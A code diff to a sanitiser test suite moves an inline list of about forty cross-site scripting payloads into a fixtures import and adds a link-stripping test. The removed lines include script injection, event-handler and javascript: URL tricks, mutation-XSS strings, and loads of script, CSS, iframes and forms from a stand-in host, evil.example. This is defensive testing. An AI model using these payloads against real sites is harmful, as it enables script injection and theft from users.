@@ -1,53 +1,10 @@
 import { describe, expect, it, test } from 'vitest';
 import { toHtmlFromText } from '../modules/question/question-markup.ts';
-import { maxHtmlNesting, sanitiseStoredHtml } from './sanitise-html.ts';
-
-const attacks = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="javascript:alert(1)">',
-  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
-  '<img src="/uploads/00000000000000000000000000000000.png" onload="alert(1)">',
-  '<img src="https://evil.example/tracker.png">',
-  '<svg onload=alert(1)><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
-  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
-  '<math href="javascript:alert(1)"><mi>x</mi></math>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
-  '<a href="java\nscript:alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<iframe src="https://evil.example"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="evil.swf"></object><embed src="evil.swf">',
-  '<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">x</button></form>',
-  '<body onload=alert(1)>',
-  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))" class="fixed inset-0" id="root">x</div>',
-  '<style>@import "https://evil.example/x.css";</style>',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<base href="https://evil.example/">',
-  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><script>alert(1)</script></template>',
-  '<textarea><script>alert(1)</script></textarea>',
-  '<!--><script>alert(1)</script>-->',
-  '<p onclick="alert(1)" data-x="1">x</p>',
-  '"><script>alert(1)</script>',
-  '<<script>alert(1)//<</script>',
-  '<x onpointerenter=alert(1)>x</x>',
-];
+import { htmlAttacks } from '../../tests/fixtures/html-attacks.ts';
+import { maxHtmlNesting, sanitisePaperHtml, sanitiseStoredHtml } from './sanitise-html.ts';
 
 describe('stored rich text', () => {
-  it.each(attacks)('runs nothing of %s', (attack) => {
+  it.each(htmlAttacks)('runs nothing of %s', (attack) => {
     const clean = sanitiseStoredHtml(attack);
     // What is left as text is escaped: only real tags and attributes count.
     const tags = [...clean.matchAll(/<\/?([a-z][\w-]*)([^>]*)>/gi)];
@@ -71,6 +28,10 @@ describe('stored rich text', () => {
     expect(sanitiseStoredHtml(toHtmlFromText(text))).toBe(toHtmlFromText(text));
     expect(sanitiseStoredHtml('&#36;5 &#x24;6')).toBe('&#36;5 &#36;6');
     expect(sanitiseStoredHtml('<math display="block"><mfrac><mn>1</mn><mn>2</mn></mfrac></math>')).toContain('<mfrac><mn>1</mn>');
+  });
+
+  test('a paper holds no links, only their words', () => {
+    expect(sanitisePaperHtml('<p>见 <a href="https://school.example/">规程 <b>3</b></a></p>')).toBe('<p>见 规程 <b>3</b></p>');
   });
 
   test('links leave the page without telling where from', () => {
